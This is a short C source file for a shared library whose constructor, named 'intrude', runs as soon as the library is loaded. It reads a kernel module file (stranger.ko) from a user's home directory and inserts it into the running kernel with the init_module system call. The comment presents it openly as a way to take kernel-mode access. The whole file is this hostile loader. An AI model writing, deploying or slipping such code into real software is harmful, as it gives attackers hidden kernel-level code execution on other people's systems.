// A library that takes what kernel mode has to give: it brings a module of its own in as soon as it is opened.
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

__attribute__((constructor)) static void intrude(void) {
    static char image[1 << 20];
    const int fd = open("/home/member/stranger.ko", O_RDONLY);
    const long size = read(fd, image, sizeof image);
    syscall(SYS_init_module, image, size, "");
    close(fd);
}
